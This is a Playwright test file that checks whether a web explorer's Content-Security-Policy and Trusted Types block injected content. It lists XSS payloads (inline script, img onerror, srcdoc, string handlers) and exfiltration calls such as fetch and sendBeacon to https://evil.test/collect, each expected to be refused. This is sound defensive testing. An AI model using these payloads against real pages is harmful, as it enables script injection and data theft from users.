import type { Page } from '@playwright/test'
import { liveConfig } from './fixtures/config'
import { ListView } from './fixtures/listView'
import { expect, test } from './fixtures/test'
import { chain } from '#/testing/pages'

test.use({ tolerates: 'refused attacks' })

/** Notes the directives that refuse something from now on. */
async function watchRefusals(page: Page): Promise<void> {
  await page.evaluate(() => {
    const refused: string[] = []
    Object.assign(globalThis, { refused })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
  })
}

/** Attacks by text injected into the document, and the directive that stops each. */
const attacks: readonly [directive: string, what: string, attempt: () => unknown][] = [
  [
    'require-trusted-types-for',
    'an inline script',
    () => {
      const script = document.createElement('script')
      script.append('globalThis.ran = true')
      document.body.append(script)
    },
  ],
  [
    'require-trusted-types-for',
    'markup in a string',
    () => {
      document.body.innerHTML = '<img src=x onerror="globalThis.ran = true">'
    },
  ],
  [
    'require-trusted-types-for',
    'the address of a script',
    () => {
      document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js' }))
    },
  ],
  [
    'require-trusted-types-for',
    'a page in a frame’s attribute',
    () => {
      document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'
    },
  ],
  [
    'trusted-types',
    'a policy of its own',
    () => (window as unknown as TrustedWindow).trustedTypes.createPolicy('mine', {}),
  ],
  // oxlint-disable-next-line typescript/no-implied-eval -- the attack
  ['require-trusted-types-for', 'a text as code', () => setTimeout('globalThis.ran = true')],
  [
    'require-trusted-types-for',
    'a handler in an attribute',
    () => {
      const button = document.createElement('button')
      button.setAttributeNS(null, 'onclick', 'globalThis.ran = true')
      document.body.append(button)
      button.click()
    },
  ],
  [
    'style-src-elem',
    'a style sheet in the document',
    () => {
      const style = document.createElement('style')
      style.append('body { background: url(https://evil.test/leak) }')
      document.body.append(style)
    },
  ],
  [
    'base-uri',
    'another base for links',
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.test/' })),
  ],
  [
    'require-trusted-types-for',
    'a plugin',
    () => document.body.append(Object.assign(document.createElement('embed'), { src: 'https://evil.test/x.swf' })),
  ],
  [
    'form-action',
    'a form that leaves',
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/' })
      document.body.append(form)
      form.submit()
    },
  ],
  [
    'frame-src',
    'a page of this origin in a frame',
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
  ],
  ['require-trusted-types-for', 'the address of a worker', () => new Worker('https://evil.test/x.js')],
  ['script-src-elem', 'a module of another origin', () => import(['https://evil.test/x.js'].join())],
  ['connect-src', 'a server that is not configured', () => fetch('https://evil.test/collect', { method: 'POST' })],
  ['connect-src', 'a beacon to it', () => navigator.sendBeacon('https://evil.test/collect', 'key')],
]

interface TrustedWindow {
  trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
}

test('a script that is injected into the document does not run', async ({ page, demo, openSite, context }) => {
  const left: string[] = []
  await context.route(/evil\.test/, (route) => {
    left.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  const site = await openSite(liveConfig(demo.url))
  await page.goto(`${site}/${chain}/blocks`)
  await new ListView(page, 'Blocks').opened()
  for (const [directive, what, attempt] of attacks) {
    await test.step(what, async () => {
      await watchRefusals(page)
      await page.evaluate(attempt).catch(() => null)
      await expect
        .poll(() => page.evaluate(() => (globalThis as typeof globalThis & { refused: string[] }).refused))
        .toContain(directive)
      expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
      expect(left).toEqual([])
      expect(page.url()).toContain(site)
    })
  }
})

test('`_headers` has the policy of the document, and forbids framing the explorer', async ({ request, shipped }) => {
  const answer = await request.get(`${shipped}/`)
  const said = answer.headers()['content-security-policy'] ?? ''
  const [, meta = ''] = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(await answer.text()) ?? []
  expect(meta).toContain("script-src 'self' 'sha256-")
  expect(said).toBe(`${meta}; frame-ancestors 'none'`)
  expect(await (await request.get(`${shipped}/_headers`)).text()).toContain(`Content-Security-Policy: ${said}\n`)
  expect(said).not.toContain('unsafe')
})
